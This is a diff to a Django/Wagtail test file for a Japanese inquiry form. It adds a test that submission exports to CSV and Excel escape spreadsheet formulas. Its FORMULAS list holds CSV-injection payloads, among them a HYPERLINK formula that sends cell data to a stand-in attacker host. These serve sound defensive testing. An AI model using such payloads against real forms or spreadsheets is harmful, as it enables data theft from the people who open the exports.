@@ -1,7 +1,10 @@
 """お問い合わせ (guide 16): the inquiry form page, its mail, who sees the submissions, and the links."""
 
+import csv
+import io
 import re
 
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 from django.core import mail
@@ -264,6 +267,30 @@ def test_the_secretariat_lists_reads_and_deletes_the_submissions(client, inquiry
     delete = reverse("wagtailforms:delete_submissions", args=[inquiry.pk]) + f"?selected-submissions={submitted.pk}"
     assert client.post(delete).status_code == 302
     assert not FormSubmission.objects.exists()
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def test_the_submissions_export_escapes_formulas_for_excel(client, inquiry):
+    """Anyone may type a formula into the public form; the secretariat opens the export in Excel."""
+    names = field_names(inquiry)
+    for text in FORMULAS:
+        FormSubmission.objects.create(page=inquiry, form_data={names["氏名"]: text, names["お問い合わせ内容"]: "普通の文"})
+    client.force_login(user_in("事務局"))
+    response = client.get(reverse("wagtailforms:list_submissions", args=[inquiry.pk]) + "?export=csv")
+    content = b"".join(response.streaming_content).decode("utf-8")
+    assert content.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
+    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"), newline="")))
+    name_column = rows[0].index("氏名")
+    assert [row[name_column] for row in rows[1:]] == ["'" + text for text in FORMULAS]
+    assert {row[rows[0].index("お問い合わせ内容")] for row in rows[1:]} == {"普通の文"}
+    assert f"{inquiry.slug}-export-" in response["Content-Disposition"]
+
+    xlsx = client.get(reverse("wagtailforms:list_submissions", args=[inquiry.pk]) + "?export=xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in FORMULAS]
+    assert len(cells) == len(FORMULAS) and all(cell.data_type == "s" for cell in cells)
 
 
 # Members area and links
